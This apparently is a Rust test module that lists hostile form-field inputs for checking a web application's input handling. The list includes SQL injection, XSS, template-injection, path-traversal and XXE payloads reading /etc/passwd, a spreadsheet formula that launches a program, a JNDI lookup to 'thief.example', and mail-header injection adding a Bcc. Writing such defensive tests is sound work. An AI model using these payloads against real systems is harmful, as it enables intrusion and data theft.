//! What people and attackers put into a field.

use std::fmt::Write as _;

/// What such a value is, and so which fields may take it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Nothing is said.
    Absent,
    /// More than any field of a page is for.
    Long,
    /// Characters that cannot be seen and change what is read.
    Invisible,
    /// Several lines, such as those that would begin another header of a mail.
    Lines,
    /// Words that mean something to a spreadsheet, a template, a database, a browser or a file system, and nothing
    /// to us.
    Words,
    /// What looks like a number and is none, or none that can be meant.
    Numbers,
    /// What looks like a date and is none.
    Dates,
    /// No value of any list.
    Choices,
    /// What no browser sends: the form as a whole cannot be read.
    Broken,
}

/// How it is sent.
#[derive(Debug, Clone)]
pub(super) enum Sent {
    Missing,
    Text(String),
    /// As it stands in the body.
    Raw(&'static str),
    /// The valid value, two times.
    Twice,
}

/// One value and its name.
#[derive(Debug, Clone)]
pub(super) struct Hostile {
    pub(super) name: &'static str,
    pub(super) kind: Kind,
    pub(super) sent: Sent,
}

/// These may be stored, and must come back as text and as nothing else.
const WORDS: &[(&str, &str)] = &[
    ("a formula", "=cmd|' /C calc'!A0"),
    ("a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}"),
    ("a lookup", "${jndi:ldap://thief.example/a}"),
    ("SQL", "Robert'); DROP TABLE invoice;--"),
    ("a script", "<script>alert(1)</script>"),
    ("an attribute", "\"><img src=x onerror=alert(1)>"),
    ("the end of a text area", "</textarea></title><svg/onload=alert(1)>"),
    ("a link", "javascript:alert(1)"),
    ("a path", "../../../../etc/passwd"),
    ("typst", "#read(\"/etc/passwd\") $ \\ @a"),
    ("a format", "%s%s%n %(a)d {0} {}"),
    ("an entity", "&amp;&#x3c;script&#x3e;]]><!ENTITY a SYSTEM 'file:///etc/passwd'>"),
];

const NUMBERS: &[(&str, &str)] = &[
    ("an exponent", "1e999"),
    ("not a number", "NaN"),
    ("infinity", "Infinity"),
    ("hexadecimal", "0x1F"),
    ("far below zero", "-99999999999999999999999999999999999999"),
    ("a huge number", "99999999999999999999999999999999999999"),
    ("below zero", "-1"),
    ("full-width digits", "\u{ff11}\u{ff12}"),
    ("two commas", "1,2,3"),
];

const DATES: &[(&str, &str)] = &[
    ("a day that is not", "2026-02-30"),
    ("the year 99999", "99999-12-31"),
    ("the year 0", "0000-01-01"),
    ("a year before Christ", "-000044-03-15"),
    ("a year of the Romans", "0014-08-19"),
    ("tomorrow", "tomorrow"),
];

const CHOICES: &[(&str, &str)] = &[
    ("a country that is not", "ZZ"),
    ("a choice that is not", "S:999"),
    ("another id", "00000000-0000-0000-0000-000000000000"),
];

const INVISIBLE: &[(&str, &str)] = &[
    ("an escape", "a\u{1b}[2Jb"),
    ("a bell", "a\u{7}b"),
    ("a control of C1", "a\u{9b}b"),
    ("delete", "a\u{7f}b"),
    ("text from right to left", "invoice\u{202e}fdp.exe"),
    ("an isolate", "a\u{2066}b\u{2069}"),
    ("a non-character", "a\u{ffff}b"),
];

const BROKEN: &[(&str, &str)] = &[
    ("NUL", "a%00b"),
    ("bytes that are no text", "a%ff%fe"),
    ("an overlong slash", "%c0%af"),
    ("half a surrogate pair", "%ed%a0%80"),
    ("raw bytes", "a\u{fffd}%"),
    ("a percent sign", "100%"),
    ("a percent sign and no digits", "%zz"),
];

/// All of them.
pub(super) fn all() -> Vec<Hostile> {
    let mut all = vec![
        Hostile { name: "missing", kind: Kind::Absent, sent: Sent::Missing },
        Hostile { name: "empty", kind: Kind::Absent, sent: Sent::Text(String::new()) },
        Hostile { name: "blanks", kind: Kind::Absent, sent: Sent::Text(" \t \u{a0} ".to_owned()) },
        Hostile { name: "10 KB", kind: Kind::Long, sent: Sent::Text("a".repeat(10_240)) },
        Hostile { name: "1 MB", kind: Kind::Long, sent: Sent::Text("a".repeat(1 << 20)) },
        Hostile {
            name: "10,000 combining marks",
            kind: Kind::Long,
            sent: Sent::Text(format!("e{}", "\u{301}".repeat(10_000))),
        },
        Hostile {
            name: "another header",
            kind: Kind::Lines,
            sent: Sent::Text("a@example.com\r\nBcc: thief@example.net".to_owned()),
        },
        Hostile { name: "twice", kind: Kind::Broken, sent: Sent::Twice },
    ];
    let mut table = |kind, rows: &[(&'static str, &'static str)]| {
        for (name, text) in rows {
            let sent = if kind == Kind::Broken { Sent::Raw(text) } else { Sent::Text((*text).to_owned()) };
            all.push(Hostile { name, kind, sent });
        }
    };
    table(Kind::Invisible, INVISIBLE);
    table(Kind::Words, WORDS);
    table(Kind::Words, &[("no width", "Mus\u{200b}ter\u{2060}")]);
    table(Kind::Numbers, NUMBERS);
    table(Kind::Dates, DATES);
    table(Kind::Choices, CHOICES);
    table(Kind::Broken, BROKEN);
    all
}

/// Percent-encodes everything but letters and digits.
pub(crate) fn encode(text: &str) -> String {
    let mut encoded = String::with_capacity(text.len());
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() {
            encoded.push(char::from(byte));
        } else {
            write!(encoded, "%{byte:02X}").unwrap();
        }
    }
    encoded
}
